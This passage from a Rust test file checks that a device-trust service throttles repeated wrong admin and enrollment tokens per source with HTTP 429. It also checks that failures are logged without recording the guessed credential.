    assert_eq!(from("203.0.113.1", &server.token), 429, "the guesser waits");
    assert_eq!(
        from("203.0.113.2", "dtadm_wrong"),
        401,
        "another client does not"
    );
    assert_eq!(from("203.0.113.2", &server.token), 200);
    let sources: Vec<String> = server
        .failures("adminToken")
        .into_iter()
        .map(|(source, ..)| source)
        .collect();
    assert!(sources.contains(&"203.0.113.1".to_owned()), "{sources:?}");
    assert!(
        !sources.iter().any(|s| s.starts_with("198.51.100.")),
        "{sources:?}"
    );
}

/// Registrations with a wrong enrollment token count against their source
/// like forged signatures: past the burst, 429 before the body is read,
/// and each one is in the System Log.
#[test]
fn guessing_enrollment_tokens_is_throttled_per_source() {
    let server = Limited::start(quota(3, std::time::Duration::from_secs(60)));
    use base64::Engine as _;
    let backend = devicetrust_pki::default_backend();
    let key = backend
        .generate(devicetrust_pki::KeyAlgorithm::EcP256)
        .unwrap();
    // A well-formed registration, its key proof signed, with a guessed token.
    let token = "dtenr_guess.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    let ts = time::OffsetDateTime::now_utc().unix_timestamp().to_string();
    let message = devicetrust_service::device_keys::registration_message(
        &ts,
        token,
        &key.public_key().fingerprint(),
    );
    let signature = backend
        .signer(&key)
        .unwrap()
        .sign(message.as_bytes())
        .unwrap();
    let body = json!({
        "enrollmentToken": token,
        "publicKey": devicetrust_pki::encoding::to_pem("PUBLIC KEY", key.public_key().spki_der())
            .unwrap(),
        "keyProof": {
            "ts": ts,
            "signature": base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(signature),
        },
        "profile": {"displayName": "guess", "platform": "WINDOWS", "sid": "S-1",
                    "osVersion": "10.0.22631.4460", "registered": true},
    });
    let statuses: Vec<u16> = (0..5)
        .map(|_| {
            server
                .call("POST", "/device/v1/register", "", Some(&body))
                .0
        })
        .collect();
    assert_eq!(statuses, [401, 401, 401, 429, 429]);
    let recorded = server.failures("enrollmentToken");
    let counts: Vec<(u64, u64)> = recorded.iter().map(|r| (r.3, r.4)).collect();
    assert_eq!(counts.iter().map(|c| c.0).sum::<u64>(), 3, "{recorded:?}");
    assert_eq!(counts.iter().map(|c| c.1).sum::<u64>(), 2, "{recorded:?}");
    for (source, route, reason, ..) in &recorded {
        assert_eq!(
            (source.as_str(), route.as_str()),
            ("127.0.0.1", "/device/v1/register")
        );
        assert!(
            !reason.contains("dtenr_guess"),
            "never the credential: {reason}"
        );
    }
}
